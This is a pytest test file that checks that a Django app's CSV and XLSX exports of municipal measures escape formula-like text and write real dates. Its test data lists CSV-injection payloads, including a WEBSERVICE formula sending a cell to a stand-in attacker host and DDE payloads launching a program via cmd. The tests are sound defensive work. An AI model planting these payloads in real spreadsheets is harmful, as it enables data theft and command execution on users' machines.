"""The measure exports: no text becomes a formula in a spreadsheet, dates are dates."""

import csv
import datetime
import io

import openpyxl
import pytest
from django.urls import reverse
from django.utils import timezone

from measures.models import Status
from measures.services import status_update_create

# OWASP's CSV injection list: a cell starting with one of these is read as a formula.
FORMULAS = [
    '=WEBSERVICE("https://angriper.example/?"&A1)',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def export_note(client, coordinator, gjesdal, note, fmt):
    status_update_create(
        measure=gjesdal.measures.get(number=9),
        user=coordinator,
        status=Status.IN_PROGRESS,
        note=note,
        date=timezone.localdate(),
    )
    return client.get(reverse(f"measures:measure_export_{fmt}"), {"status": Status.IN_PROGRESS})


def row_of_measure_9(response):
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    return next(row for row in sheet.iter_rows() if row[0].value == 9)


@pytest.mark.parametrize("note", FORMULAS)
def test_a_note_that_looks_like_a_formula_is_text_in_the_csv(working_client, coordinator, gjesdal, note):
    response = export_note(working_client, coordinator, gjesdal, note, "csv")
    rows = {row[0]: row for row in csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";")}
    assert rows["9"][-1] == "'" + note


@pytest.mark.parametrize("note", FORMULAS)
def test_a_note_that_looks_like_a_formula_is_text_in_the_xlsx(working_client, coordinator, gjesdal, note):
    response = export_note(working_client, coordinator, gjesdal, note, "xlsx")
    cell = row_of_measure_9(response)[5]
    assert cell.data_type in ("s", "inlineStr")
    assert cell.value.startswith("'")  # XML reads a carriage return back as a line feed


def test_a_title_that_looks_like_a_formula_is_text_in_both(working_client, gjesdal):
    gjesdal.measures.filter(number=9).update(title='=HYPERLINK("https://angriper.example","Klikk")')
    csv_response = working_client.get(reverse("measures:measure_export_csv"))
    rows = {row[0]: row for row in csv.reader(io.StringIO(csv_response.content.decode("utf-8-sig")), delimiter=";")}
    assert rows["9"][1].startswith("'=")
    xlsx_response = working_client.get(reverse("measures:measure_export_xlsx"))
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx_response.content)).active
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


def test_the_latest_update_is_a_real_date_in_the_xlsx(working_client, coordinator, gjesdal):
    response = export_note(working_client, coordinator, gjesdal, "I rute", "xlsx")
    cell = row_of_measure_9(response)[4]
    assert cell.is_date
    assert isinstance(cell.value, datetime.datetime) and cell.value.date() == timezone.localdate()
    assert cell.number_format == "DD.MM.YYYY"
